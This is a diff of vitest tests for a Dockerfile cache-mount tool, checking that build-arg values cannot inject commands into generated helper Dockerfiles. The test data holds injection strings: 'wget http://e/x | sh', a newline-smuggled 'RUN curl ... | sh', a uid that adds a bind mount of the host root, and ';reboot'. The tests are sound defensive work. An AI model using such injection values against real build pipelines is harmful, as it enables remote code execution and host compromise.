@@ -4,6 +4,7 @@ import { describe, expect, test } from 'vitest';
 import { parseDockerfile } from '../../src/dockerfile/parse.js';
 import {
   argValues,
+  cacheMountProblem,
   cacheMountsIn,
   extractDockerfile,
   helperArgv,
@@ -83,6 +84,79 @@ describe('cacheMountsIn', () => {
   });
 });
 
+describe('build-arg text cannot reach a helper Dockerfile (#19)', () => {
+  const HOSTILE = [
+    ['a shell command after the id', 'x true; wget http://e/x | sh #', 'wget'],
+    ['a whole instruction after a newline', 'x\nRUN curl http://e/x | sh', 'curl'],
+    ['another mount option', 'x,target=/etc', '/etc'],
+    ['a quote', 'x"Hunter2', 'Hunter2'],
+  ];
+
+  test.each(HOSTILE)(
+    'id: %s → skipped with a warning naming the line and field, not the value',
+    (_n, value, marker) => {
+      const r = found('FROM scratch\nARG CACHE=npm\nRUN --mount=type=cache,id=$CACHE,target=/c x\n', [
+        `CACHE=${value}`,
+      ]);
+      expect(r.mounts).toEqual([]);
+      expect(r.skipped).toEqual([
+        {
+          line: 3,
+          reason: 'cache mount id is not letters, digits and . _ / : @ + - only; the mount is not carried',
+          invalid: true,
+        },
+      ]);
+      // and what the helpers are given holds none of it
+      const text = injectDockerfile('busybox:1.36', r.mounts) + extractDockerfile('busybox:1.36', r.mounts);
+      expect(text).not.toContain(marker);
+      expect(text.split('\n').filter((l) => l.startsWith('RUN --mount'))).toEqual([]);
+    },
+  );
+
+  test('a hostile target (the default id) is skipped too', () => {
+    const r = found('FROM scratch\nARG T=/c\nRUN --mount=type=cache,target=$T x\n', [
+      'T=/c true; wget http://e/x | sh #',
+    ]);
+    expect(r.mounts).toEqual([]);
+    expect(r.skipped.map((s) => `${s.line}: ${s.reason}`)).toEqual([
+      '3: cache mount id is not letters, digits and . _ / : @ + - only; the mount is not carried',
+    ]);
+  });
+
+  test.each([
+    ['uid', '0 --mount=type=bind,source=/,target=/host', 'uid is not decimal digits only'],
+    ['gid', '1000\nRUN id', 'gid is not decimal digits only'],
+    ['mode', '0755;reboot', 'mode is not an octal mode such as 0755'],
+  ])('%s from a build-arg: digits only', (field, value, why) => {
+    const r = found(`FROM scratch\nARG V\nRUN --mount=type=cache,target=/c,${field}=$V x\n`, [`V=${value}`]);
+    expect(r.mounts).toEqual([]);
+    expect(r.skipped).toEqual([
+      { line: 3, reason: `cache mount ${why}; the mount is not carried`, invalid: true },
+    ]);
+  });
+
+  test.each<[CacheMount, string | undefined]>([
+    [{ id: '/root/.cache/go-build' }, undefined],
+    [{ id: 'go-mod@v1:cache+x', uid: '1000', gid: '0', mode: '0755' }, undefined],
+    [{ id: 'npm', mode: '755' }, undefined],
+    [{ id: '-x' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
+    [{ id: 'a=b' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
+    [{ id: 'a\\b' }, 'cache mount id is not letters, digits and . _ / : @ + - only'],
+    [{ id: 'a', uid: '-1' }, 'cache mount uid is not decimal digits only'],
+    [{ id: 'a', mode: '0999' }, 'cache mount mode is not an octal mode such as 0755'],
+    [{ id: 'a', mode: '07' }, 'cache mount mode is not an octal mode such as 0755'],
+  ])('cacheMountProblem(%j)', (m, why) => {
+    expect(cacheMountProblem(m)).toBe(why);
+  });
+
+  test('the helper Dockerfiles refuse an unchecked mount outright', () => {
+    const bad = { id: 'x true; wget http://e/x | sh #' };
+    expect(() => injectDockerfile('busybox:1.36', [bad])).toThrow(/cache mount id is not/);
+    expect(() => extractDockerfile('busybox:1.36', [bad])).toThrow(/cache mount id is not/);
+    expect(() => injectDockerfile('busybox:1.36', [bad])).not.toThrow(/wget/);
+  });
+});
+
 test.each<[string[], CacheMount[]]>([
   [['/root/.cache/go-build'], [{ id: '/root/.cache/go-build' }]],
   [['id=gomod,uid=1000,gid=1000'], [{ id: 'gomod', uid: '1000', gid: '1000' }]],
@@ -135,7 +209,7 @@ test('extractDockerfile: copies into /out/DIR, writable, exported from scratch',
 test.each<[Parameters<typeof helperArgv>[0], string[]]>([
   [
     { builder: '', nonce: 'n1', context: '/rt/m' },
-    ['--build-arg', 'CROSSBUILD_CACHE_DANCE=n1', '--output', 'type=cacheonly', '--file', '-', '/rt/m'],
+    ['--build-arg', 'CROSSBUILD_CACHE_DANCE=n1', '--output', 'type=cacheonly', '--file', '-', '--', '/rt/m'],
   ],
   [
     { builder: 'cb', nonce: 'n2', context: '/rt/m-new', dest: '/rt/m-new' },
@@ -148,6 +222,7 @@ test.each<[Parameters<typeof helperArgv>[0], string[]]>([
       'type=local,dest=/rt/m-new',
       '--file',
       '-',
+      '--',
       '/rt/m-new',
     ],
   ],
